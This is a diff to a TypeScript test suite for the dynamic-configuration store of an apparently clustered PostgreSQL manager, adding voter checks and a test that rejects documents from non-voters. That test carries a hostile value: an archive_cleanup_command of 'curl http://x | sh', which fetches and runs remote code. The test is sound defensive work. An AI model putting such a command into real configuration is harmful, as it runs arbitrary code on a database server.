@@ -173,7 +173,7 @@ describe("DynamicConfig (the node's store and protocol)", () => {
   });
 
   test("a later document is stored, applied and acknowledged; an older one is not; a malformed one is logged and dropped", () => {
-    const n = node("n3", `[postgres.parameters]\nwork_mem = "8MB"\n`);
+    const n = node("n3", `[postgres.parameters]\nwork_mem = "8MB"\n`, { voters: ["n3", "p1", "p2"] });
     n.dyn.onDocument("p1", doc(2, settings({ postgres: { parameters: { work_mem: "64MB" } } })));
     expect(n.dyn.get()?.version).toBe(2);
     expect(pgParametersInForce({ work_mem: "8MB" })).toEqual({ work_mem: "64MB" });
@@ -390,7 +390,9 @@ describe("DynamicConfig (the node's store and protocol)", () => {
       leading: true, voters: ["n1"],
       refusedParameters: async (p) => (asked.push({ ...p }), "work_mme" in p ? 'unrecognized configuration parameter "work_mme"' : null),
     });
+    n.st.voters = ["n1", "p1"]; // the document from a voter, then p1 leaves the voters
     n.dyn.onDocument("p1", doc(1));
+    n.st.voters = ["n1"];
     const r = await n.dyn.change({ base: 1, set: { "postgres.parameters.work_mme": "64MB" } });
     expect(r).toMatchObject({ status: 400, ok: false, message: expect.stringContaining('PostgreSQL refuses them (every node would log it at the reload and fail at its next start): unrecognized configuration parameter "work_mme"') });
     expect(n.dyn.get()?.version).toBe(1);
@@ -403,7 +405,9 @@ describe("DynamicConfig (the node's store and protocol)", () => {
     // Leadership lost while PostgreSQL checked: nothing stored.
     let release = () => {};
     const slow = node("n2", "", { leading: true, voters: ["n2"], refusedParameters: () => new Promise((r) => { release = () => r(null); }) });
+    slow.st.voters = ["n2", "p1"];
     slow.dyn.onDocument("p1", doc(1));
+    slow.st.voters = ["n2"];
     const pending = slow.dyn.change({ base: 1, set: { "postgres.parameters.work_mem": "8MB" } }); // runs up to the check
     slow.st.leading = false;
     release();
@@ -424,12 +428,16 @@ describe("DynamicConfig (the node's store and protocol)", () => {
     expect(Object.keys(d.get()!.settings.postgres.parameters)).toEqual(["work_mem"]);
     expect(log.lines.some((l) => l.includes("postgres.parameters recovery_target_timeline, Sync_Replication_Slots, recovery_target_action, hba_file, full_page_writes left out"))).toBe(true);
     // From a peer too; a setting refused all along (port) still refuses the document.
-    const m = node("n6");
+    const m = node("n6", "", { voters: ["n6", "p1"] });
     m.dyn.onDocument("p1", { ...old, version: 6 });
     expect(m.dyn.get()?.version).toBe(6);
     expect(m.log.lines.some((l) => l.includes("version 6 from p1: postgres.parameters recovery_target_timeline"))).toBe(true);
     m.dyn.onDocument("p1", { ...old, version: 7, settings: { ...old.settings, postgres: { parameters: { port: 5433 } } } });
     expect(m.dyn.get()?.version).toBe(6);
+    // From a member that is not a voter (not approved yet): ignored, whatever it holds (review).
+    m.dyn.onDocument("intruder", { ...old, version: 999_999, settings: { ...old.settings, postgres: { parameters: { archive_cleanup_command: "curl http://x | sh" } } } });
+    expect(m.dyn.get()?.version).toBe(6);
+    expect(m.log.lines.some((l) => l.includes("ignored a cluster-wide configuration from intruder: not a voter"))).toBe(true);
   });
 
   test("a corrupt dynamic-config.json is logged and ignored (the leader's version replaces it)", () => {
